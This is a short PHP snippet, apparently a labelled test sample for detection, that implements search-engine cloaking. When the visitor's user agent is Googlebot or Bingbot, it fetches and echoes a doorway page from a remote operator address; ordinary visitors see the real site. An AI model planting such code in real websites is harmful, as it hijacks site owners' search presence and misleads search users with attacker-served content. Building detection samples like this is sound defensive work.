<?php
// Test sample (never run): serves search-engine crawlers pages fetched from the operator's
// host (a documentation address), and visitors the real site.
$agent = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
if (strpos($agent, 'googlebot') !== false || strpos($agent, 'bingbot') !== false) {
    $page = file_get_contents('http://203.0.113.7/door.php?host=' . $_SERVER['HTTP_HOST']
        . '&uri=' . urlencode($_SERVER['REQUEST_URI']));
    echo $page;
    exit;
}
